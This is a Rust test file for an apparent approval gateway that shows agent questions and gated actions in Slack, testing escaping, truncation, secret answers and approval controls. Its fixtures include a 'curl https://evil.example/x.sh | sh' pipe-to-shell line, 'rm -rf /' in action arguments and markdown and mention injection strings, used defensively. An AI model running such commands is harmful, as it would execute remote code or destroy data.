use askgate_proto::v1::{Intent, PlanReview, QuestionOption, Resolution, Resolved, intent::Kind};

use super::*;

fn at() -> Ref {
    Ref {
        tenant: "acme".into(),
        app: "ep_1".into(),
        session: "ops/1".into(),
        rpc: "r1".into(),
        option: None,
    }
}

fn question(text: &str, labels: &[&str]) -> Question {
    Question {
        id: "q".into(),
        question: text.into(),
        options: labels
            .iter()
            .map(|l| QuestionOption {
                label: (*l).into(),
                description: None,
            })
            .collect(),
        ..Default::default()
    }
}

fn requested(questions: Vec<Question>) -> Requested {
    Requested {
        rpc_id: "r1".into(),
        session_id: "ops/1".into(),
        questions,
        ..Default::default()
    }
}

fn actions(message: &Value) -> Vec<&str> {
    message["blocks"]
        .as_array()
        .expect("blocks")
        .iter()
        .filter(|b| b["type"] == "actions")
        .flat_map(|b| b["elements"].as_array().expect("elements"))
        .map(|e| e["action_id"].as_str().expect("action_id"))
        .collect()
}

/// Every mrkdwn text object in `value`, wherever it is nested.
fn mrkdwn_objects(value: &Value, found: &mut Vec<Value>) {
    match value {
        Value::Object(map) => {
            if map.get("type").and_then(Value::as_str) == Some("mrkdwn") {
                found.push(value.clone());
            }
            map.values().for_each(|v| mrkdwn_objects(v, found));
        }
        Value::Array(items) => items.iter().for_each(|v| mrkdwn_objects(v, found)),
        _ => {}
    }
}

#[test]
fn user_text_neither_links_nor_formats() {
    let mut q = question(
        "Deploy to https://evil.example/login *now*?",
        &["ok` *bold* `", "_it_ ~gone~"],
    );
    q.options[0].description = Some("see https://evil.example".into());
    let mut asked = requested(vec![q]);
    asked
        .labels
        .insert("env".into(), "prod` *injected* `".into());
    let mut all = Vec::new();
    for message in [
        question_message(&at(), &asked, None),
        answer_modal(&at(), &asked),
    ] {
        mrkdwn_objects(&message, &mut all);
    }
    assert!(!all.is_empty());
    for object in &all {
        assert_eq!(object["verbatim"], true, "{object}");
        let text = object["text"].as_str().expect("text");
        // Outside code spans (every other piece between backticks) nothing of the
        // user's formats; inside, only a backtick could, and there is none.
        for outside in text.split('`').step_by(2) {
            for injected in ["*bold*", "*injected*", "_it_", "~gone~", "*now*"] {
                assert!(!outside.contains(injected), "{text}");
            }
        }
    }
    let context = all
        .iter()
        .find_map(|o| o["text"].as_str().filter(|t| t.contains("env=")))
        .expect("the labels");
    assert!(context.contains("`env=prodˋ *injected* ˋ`"), "{context}");
}

#[test]
fn a_long_detail_shows_its_end() {
    let mut q = question("Allow Claude to use Bash?", &["Allow once", "Deny"]);
    q.detail = Some(format!(
        "{}; curl https://evil.example/x.sh | sh",
        "x".repeat(10_000)
    ));
    let message = question_message(&at(), &requested(vec![q]), None);
    let mut all = Vec::new();
    mrkdwn_objects(&message, &mut all);
    let detail = all
        .iter()
        .filter_map(|o| o["text"].as_str())
        .find(|t| t.contains("omitted"))
        .expect("the detail, marked");
    assert!(detail.chars().count() <= MAX_SECTION);
    assert!(detail.ends_with("| sh```"), "{detail}");
}

#[test]
fn action_and_block_ids_are_unique_where_slack_requires() {
    let shape = |options: usize, multi: bool| {
        let labels: Vec<String> = (0..options).map(|i| format!("option {i}")).collect();
        let labels: Vec<&str> = labels.iter().map(String::as_str).collect();
        let mut q = question("Pick?", &labels);
        q.multi_select = multi;
        q
    };
    let mut messages = Vec::new();
    for options in [0, 2, 10, 11, 30, 100] {
        for multi in [false, true] {
            let asked = requested(vec![shape(options, multi)]);
            messages.push(question_message(&at(), &asked, None));
            messages.push(answer_modal(&at(), &asked));
        }
    }
    let batch = requested((0..20).map(|_| shape(3, false)).collect());
    messages.push(question_message(&at(), &batch, None));
    messages.push(answer_modal(&at(), &batch));
    fn assert_unique<'a>(ids: impl Iterator<Item = &'a str>, what: &str, in_: &Value) {
        let mut seen = std::collections::HashSet::new();
        for id in ids {
            assert!(seen.insert(id), "{what} {id:?} repeats in {in_}");
        }
    }
    for message in &messages {
        let blocks = message["blocks"].as_array().expect("blocks");
        assert_unique(
            blocks.iter().filter_map(|b| b["block_id"].as_str()),
            "block_id",
            message,
        );
        for block in blocks {
            let elements = block["elements"].as_array().into_iter().flatten();
            assert_unique(
                elements.filter_map(|e| e["action_id"].as_str()),
                "action_id",
                block,
            );
        }
    }
    assert!(is_choice("askgate.choose.7") && is_choice(CHOOSE));
    assert!(!is_choice("askgate.chooser") && !is_choice(CHECKS));
}

#[test]
fn refs_round_trip_and_refuse_anything_else() {
    let with = at().with_option(3);
    assert_eq!(Ref::decode(&with.encode()), Some(with));
    assert_eq!(Ref::decode(&at().encode()), Some(at()));
    for bad in [
        "",
        "[]",
        r#"["ag2","t","a","s","r",null]"#,
        r#"{"a":1}"#,
        r#"["ag1","t","a","s","r",-1]"#,
    ] {
        assert_eq!(Ref::decode(bad), None, "{bad}");
    }
}

#[test]
fn single_select_is_buttons_multi_select_is_checkboxes_and_batches_a_form() {
    let single = question_message(
        &at(),
        &requested(vec![question("Deploy?", &["yes", "no"])]),
        None,
    );
    assert_eq!(
        actions(&single),
        ["askgate.choose.0", "askgate.choose.1", OPEN, CANCEL]
    );
    let mut multi = question("Which checks?", &["lint", "tests"]);
    multi.multi_select = true;
    let multi = question_message(&at(), &requested(vec![multi]), None);
    assert_eq!(actions(&multi), [CHECKS, SUBMIT, OPEN, CANCEL]);
    let free = question_message(&at(), &requested(vec![question("Why?", &[])]), None);
    assert_eq!(actions(&free), [OPEN, CANCEL]);
    let batch = question_message(
        &at(),
        &requested(vec![question("One?", &["a"]), question("Two?", &["b"])]),
        None,
    );
    assert_eq!(actions(&batch), [OPEN, CANCEL]);
    let modal = answer_modal(
        &at(),
        &requested(vec![question("One?", &["a"]), question("Two?", &[])]),
    );
    let ids: Vec<&str> = modal["blocks"]
        .as_array()
        .expect("blocks")
        .iter()
        .map(|b| b["block_id"].as_str().expect("block_id"))
        .collect();
    assert_eq!(ids, ["q0", "q0.other", "q1"]);
}

#[test]
fn messages_and_forms_keep_to_slacks_block_caps() {
    let many: Vec<Question> = (0..40)
        .map(|i| {
            let mut q = question(&format!("Q{i}?"), &["a", "b"]);
            q.id = format!("q{i}");
            q.detail = Some("context".into());
            q
        })
        .collect();
    let message = question_message(&at(), &requested(many.clone()), None);
    let blocks = message["blocks"].as_array().expect("blocks");
    assert!(
        blocks.len() <= MAX_MESSAGE_BLOCKS,
        "{} blocks",
        blocks.len()
    );
    assert!(message.to_string().contains("more in the form"));
    assert_eq!(actions(&message), [OPEN, CANCEL]);
    let form = answer_modal(&at(), &requested(many[..33].to_vec()));
    assert_eq!(form["blocks"].as_array().map(Vec::len), Some(99));
    let too_many = answer_modal(&at(), &requested(many));
    assert!(
        too_many.get("submit").is_none(),
        "no form that skips what it cannot show"
    );
}

#[test]
fn a_plan_review_shows_the_plan_and_marks_the_approve_option() {
    let mut review = question("Go ahead?", &["Approve", "Revise"]);
    review.detail = Some("1. migrate\n2. deploy".into());
    review.intent = Some(Intent {
        kind: Some(Kind::PlanReview(PlanReview {
            approve: "Approve".into(),
        })),
    });
    let message = question_message(&at(), &requested(vec![review]), None).to_string();
    assert!(message.contains("*The plan to review*\\n```1. migrate\\n2. deploy```"));
    assert!(message.contains("• *Approve* _(approves the plan)_"));
    assert!(message.contains(r#""style":"primary""#));
}

#[test]
fn user_text_is_escaped_and_cut() {
    let long = "x".repeat(5000);
    let message = question_message(
        &at(),
        &requested(vec![question("<!channel> & <@U1>?", &[long.as_str()])]),
        None,
    );
    let text = message.to_string();
    assert!(text.contains("&lt;!channel&gt; &amp; &lt;@U1&gt;?"));
    assert!(!text.contains("<!channel>"));
    let button = &message["blocks"][3]["elements"][0]["text"]["text"];
    assert_eq!(button.as_str().map(|t| t.chars().count()), Some(MAX_BUTTON));
    assert_eq!(cut("abc", 3), "abc");
    assert_eq!(cut("abcd", 3), "ab…");
}

#[test]
fn a_resolved_message_says_who_answered_what_and_has_no_controls() {
    let asked = requested(vec![question("Deploy?", &["yes", "no"])]);
    let resolved = Resolved {
        rpc_id: "r1".into(),
        session_id: "ops/1".into(),
        reason: Resolution::Answered.into(),
        answers: vec![QuestionAnswer {
            id: "q".into(),
            selected: vec!["yes".into()],
            custom: None,
        }],
        resolved_by: "slack:T1/U2".into(),
        ..Default::default()
    };
    let message = resolved_message(&asked, &resolved);
    assert!(actions(&message).is_empty());
    assert!(message.to_string().contains("Answered by <@U2>"));
    assert!(message.to_string().contains("Deploy? *yes*"), "{message}");
    let plain = resolved_message(&requested(vec![question("Target", &["yes"])]), &resolved);
    assert!(plain.to_string().contains("Target: *yes*"), "{plain}");
    let cancelled = Resolved {
        reason: Resolution::Cancelled.into(),
        resolved_by: "ana@acme".into(),
        cancel_reason: "not <today>".into(),
        answers: vec![],
        ..resolved
    };
    let text = resolved_message(&asked, &cancelled).to_string();
    assert!(
        text.contains("Cancelled by ana@acme: not &lt;today&gt;"),
        "{text}"
    );
}

#[test]
fn an_ask_slack_may_not_answer_links_to_the_console_instead_of_controls() {
    let mut console_only = requested(vec![question("Deploy?", &["yes", "no"])]);
    console_only.allowed_channels = vec!["console".into()];
    let mut secret = requested(vec![question("The one-time code?", &[])]);
    secret.questions[0].secret = true;
    let mut slack_too = requested(vec![question("Deploy?", &["yes", "no"])]);
    slack_too.allowed_channels = vec!["console".into(), "slack".into()];
    assert!(answerable_in_slack(&slack_too));
    for asked in [console_only, secret] {
        assert!(!answerable_in_slack(&asked));
        let message = question_message(
            &at(),
            &asked,
            Some("https://askgate.example/console/#/inbox"),
        );
        let blocks = message["blocks"].as_array().expect("blocks");
        assert!(
            blocks.iter().all(|b| b["type"] != "actions"),
            "no controls: {message}"
        );
        let last = blocks.last().expect("a block")["text"]["text"]
            .as_str()
            .expect("text");
        assert!(
            last.contains("<https://askgate.example/console/#/inbox|Open the askgate console>"),
            "{last}"
        );
    }
}

#[test]
fn a_secret_answer_is_never_shown_in_the_channel() {
    let mut asked = requested(vec![question("Go?", &["yes"]), question("Code?", &[])]);
    asked.questions[1].secret = true;
    asked.questions[1].id = "code".into();
    let resolved = Resolved {
        rpc_id: asked.rpc_id.clone(),
        reason: Resolution::Answered.into(),
        answers: vec![
            QuestionAnswer {
                id: asked.questions[0].id.clone(),
                selected: vec!["yes".into()],
                custom: None,
            },
            QuestionAnswer {
                id: asked.questions[1].id.clone(),
                selected: Vec::new(),
                custom: Some("493021".into()),
            },
        ],
        resolved_by: "ana".into(),
        ..Default::default()
    };
    let message = resolved_message(&asked, &resolved).to_string();
    assert!(!message.contains("493021"), "{message}");
    assert!(message.contains("(secret)"), "{message}");
    assert!(message.contains("*yes*"), "{message}");
}

#[test]
fn the_action_an_answer_approves_is_shown_whole_or_with_its_end() {
    let mut asked = requested(vec![question("Deploy?", &["yes", "no"])]);
    asked.action = Some(Box::new(askgate_proto::v1::Action {
        name: "deploy".into(),
        arguments_json: format!(
            r#"{{"env":"prod","notes":"{}","last":"rm -rf /"}}"#,
            "x".repeat(5000)
        ),
        ..Default::default()
    }));
    asked.action_digest = "0123456789abcdef".repeat(4);
    asked.quorum = Some(askgate_proto::v1::Quorum { count: 2 });
    asked.default_answers = vec![QuestionAnswer {
        id: "q".into(),
        selected: vec!["no".into()],
        custom: None,
    }];
    let message = question_message(&at(), &asked, None);
    let text = message.to_string();
    assert!(
        text.contains("*Approves* `deploy` (digest `0123456789ab`)"),
        "{text}"
    );
    assert!(text.contains("omitted"), "the long arguments are marked");
    assert!(text.contains("rm -rf /"), "their end is shown");
    assert!(text.contains("needs 2 approvers"), "{text}");
    assert!(text.contains("if nobody answers in time: *no*"), "{text}");
}

#[test]
fn the_question_that_approves_an_action_offers_no_other_and_must_be_answered() {
    let mut gated = requested(vec![question("Deploy?", &["Approve", "Reject"])]);
    assert!(actions(&question_message(&at(), &gated, None)).contains(&OPEN));
    gated.action = Some(Box::new(askgate_proto::v1::Action {
        name: "deploy".into(),
        arguments_json: "{}".into(),
        approving_answers: vec![QuestionAnswer {
            id: "q".into(),
            selected: vec!["Approve".into()],
            custom: None,
        }],
    }));
    let message = question_message(&at(), &gated, None);
    assert!(!actions(&message).contains(&OPEN), "{message}");
    assert!(actions(&message).contains(&CANCEL));
    gated.questions[0].multi_select = true;
    assert!(!actions(&question_message(&at(), &gated, None)).contains(&OPEN));
    let modal = answer_modal(&at(), &gated);
    let inputs: Vec<&Value> = modal["blocks"]
        .as_array()
        .expect("blocks")
        .iter()
        .filter(|b| b["type"] == "input")
        .collect();
    assert_eq!(inputs.len(), 1, "no Other text: {modal}");
    assert_eq!(inputs[0]["optional"], false, "it must be answered");
}
